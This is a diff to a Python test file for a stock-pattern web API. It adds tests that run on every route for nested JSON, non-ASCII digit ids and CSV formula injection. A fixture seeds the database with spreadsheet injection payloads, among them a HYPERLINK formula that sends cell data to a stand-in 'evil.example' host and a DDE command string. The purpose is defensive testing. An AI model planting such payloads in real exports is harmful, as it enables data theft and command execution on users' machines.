@@ -11,7 +11,12 @@ failure reproduces.
 from __future__ import annotations
 
 import asyncio
+import contextlib
+import csv
+import io
+import re
 import urllib.parse
+from collections.abc import AsyncIterator
 from typing import Any
 
 import aiohttp
@@ -387,3 +392,135 @@ async def test_control_characters_and_huge_ids_in_every_path_and_query(
                 assert response.status_code < 500, (path, name, value)
                 if value in [urllib.parse.quote(v, safe="") for v in CONTROL]:
                     assert response.status_code == 400, (path, name, value)
+
+
+# --- nesting, non-ASCII digits and spreadsheet formulas, on every route -----------------------
+
+NESTED = "[" * 990 + "]" * 990
+# "18" in digits int() accepts but an id must not: fullwidth, Devanagari, Arabic-Indic, Persian.
+FOREIGN_DIGITS = ["\uff11\uff18", "\u0967\u096e", "\u0661\u0668", "\u06f1\u06f8"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _routes(app: Any) -> list[tuple[str, str, Any]]:
+    """(method, rule, werkzeug rule) for every route of the app (HEAD and OPTIONS aside)."""
+    return [
+        (method, rule.rule, rule)
+        for rule in app.url_map.iter_rules()
+        for method in sorted(rule.methods or ())
+        if method not in ("HEAD", "OPTIONS")
+    ]
+
+
+def _filled(rule: Any, ints: str = str(2**62)) -> str:
+    """The rule's path with every argument filled in (ints with ``ints``, others "AAPL")."""
+    path = rule.rule
+    for name, converter in rule._converters.items():
+        value = ints if converter.__class__.__name__ == "BigintConverter" else "AAPL"
+        path = re.sub(rf"<[^>]*:?{name}>", urllib.parse.quote(value, safe=""), path)
+    return str(path)
+
+
+async def test_deeply_nested_json_is_a_400_on_every_route(
+    app: Any, client: Any, auth_headers: dict[str, str]
+) -> None:
+    """Before login, routing or any handler, on every route and method that takes a body."""
+    checked = 0
+    for method, _, rule in _routes(app):
+        if method not in ("POST", "PUT", "PATCH", "DELETE"):
+            continue
+        for headers in ({}, auth_headers):
+            response = await client.open(
+                _filled(rule),
+                method=method,
+                data=NESTED,
+                headers={**headers, "Content-Type": "application/json"},
+            )
+            assert response.status_code == 400, (method, rule.rule, response.status_code)
+            assert (await response.get_json())["code"] == "validation_error"
+            checked += 1
+    assert checked >= 20
+
+
+async def test_non_ascii_digits_name_no_id_on_every_route(
+    app: Any, client: Any, auth_headers: dict[str, str], admin_headers: dict[str, str]
+) -> None:
+    checked = 0
+    for method, path, rule in _routes(app):
+        if not any(c.__class__.__name__ == "BigintConverter" for c in rule._converters.values()):
+            continue
+        headers = admin_headers if path.startswith("/api/admin") else auth_headers
+        for digits in FOREIGN_DIGITS:
+            kwargs: dict[str, Any] = {"json": {}} if method in ("PATCH", "PUT", "POST") else {}
+            status = await _check(client, _filled(rule, digits), headers, method=method, **kwargs)
+            assert status == 404, (method, path, digits, status)
+            checked += 1
+    assert checked >= 8
+    for path in ("/api/patterns", "/api/symbols", "/api/user/alerts"):
+        for digits in FOREIGN_DIGITS:
+            query = urllib.parse.quote(digits, safe="")
+            status = await _check(client, f"{path}?limit={query}", auth_headers)
+            assert status == 400, (path, digits, status)
+
+
+@pytest.fixture(name="formula_rows")
+async def _formula_rows(conn: Any) -> AsyncIterator[str]:
+    """A producer symbol, its detection and indicator, whose texts are spreadsheet formulas."""
+    import datetime as dt
+
+    symbol = "ZZFUZZ"
+    now = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=5)
+    await conn.execute(
+        "INSERT INTO symbols (symbol, name, sector, industry, exchange) VALUES ($1, $2, $3, $4, $5)",
+        symbol,
+        '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+    )
+    for table in ("daily_patterns", "intraday_patterns"):
+        await conn.execute(
+            f"INSERT INTO {table} (symbol, pattern_type, confidence, detection_timestamp)"
+            " VALUES ($1, $2, 0.99, $3)",
+            symbol,
+            "=1+1",
+            now,
+        )
+    try:
+        yield symbol
+    finally:
+        for table in ("daily_patterns", "intraday_patterns"):
+            await conn.execute(f"DELETE FROM {table} WHERE symbol = $1", symbol)
+        await conn.execute("DELETE FROM symbols WHERE symbol = $1", symbol)
+
+
+async def test_no_csv_export_hands_a_spreadsheet_a_formula(
+    client: Any, auth_headers: dict[str, str], formula_rows: str
+) -> None:
+    """Every route with ``format=csv`` (from the API document), with producer rows made of
+    formulas: no text cell starts like a formula; numbers stay numbers."""
+    document = await (await client.get("/openapi.json", headers=auth_headers)).get_json()
+    exports = [
+        path
+        for path, item in document["paths"].items()
+        if any(p.get("name") == "format" for p in item.get("get", {}).get("parameters", []))
+    ]
+    assert len(exports) >= 4, exports
+    seen_symbol = False
+    for path in exports:
+        url = path.replace("{symbol}", formula_rows).replace("{tier}", "daily")
+        if "{" in url:
+            # An export of one stored object (a job's trades): its rows are not producer text,
+            # and it goes through the same writer (tests/test_export.py).
+            continue
+        response = await client.get(url, headers=auth_headers, query_string={"format": "csv"})
+        assert response.status_code == 200, (path, await response.get_data(as_text=True))
+        for row in csv.reader(io.StringIO(await response.get_data(as_text=True))):
+            seen_symbol = seen_symbol or formula_rows in row
+            for cell in row:
+                if cell.startswith(FORMULA_STARTS):
+                    with contextlib.suppress(ValueError):
+                        float(cell)
+                        continue
+                    pytest.fail(f"{path}: formula cell {cell!r}")
+    assert seen_symbol
